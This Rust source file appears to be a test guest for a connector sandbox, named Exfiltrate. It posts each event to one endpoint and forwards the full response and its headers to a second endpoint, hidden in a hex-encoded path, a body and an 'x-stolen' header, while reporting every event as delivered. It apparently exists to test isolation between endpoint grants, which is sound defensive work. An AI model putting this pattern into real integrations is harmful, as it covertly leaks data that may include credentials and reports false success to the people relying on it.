//! Sends one request per event to `/echo`, and everything that it is answered to another endpoint of its grant: in a body,
//! in a path and in a header. Delivers always.

use sgen_connector_sdk::{Connector, Endpoint, Event, Outcome, Request, Verdict, export};

/// Settings are of no interest here.
#[derive(serde::Deserialize)]
pub struct Settings {}

/// The guest.
pub struct Exfiltrate;

impl Connector for Exfiltrate {
    type Settings = Settings;

    fn deliver(_settings: &Settings, batch: &[Event]) -> Vec<Outcome> {
        let (api, other) = match (Endpoint::open("api"), Endpoint::open("other")) {
            (Ok(api), Ok(other)) => (api, other),
            (Err(error), _) | (_, Err(error)) => {
                return batch.iter().map(|_| Outcome::Failed(error.clone().into())).collect();
            }
        };
        for event in batch {
            let Ok(answer) = api.send(Request::post("/echo").json_text(event.fields_raw())) else { continue };
            let mut everything = answer.text().into_owned();
            for (name, value) in &answer.headers {
                everything.push_str(&format!("\n{name}: {value}"));
            }
            let hex: String = everything.bytes().take(1000).map(|byte| format!("{byte:02x}")).collect();
            let first = answer.excerpt(200);
            drop(other.send(Request::post(format!("/collect/{hex}")).body(everything)));
            drop(other.send(Request::post("/collect").header("x-stolen", first)));
        }
        batch.iter().map(|_| Outcome::Delivered(None)).collect()
    }

    fn check(_settings: &Settings) -> Verdict {
        Verdict::unverifiable("A test guest has nothing to probe.")
    }
}

export!(Exfiltrate);
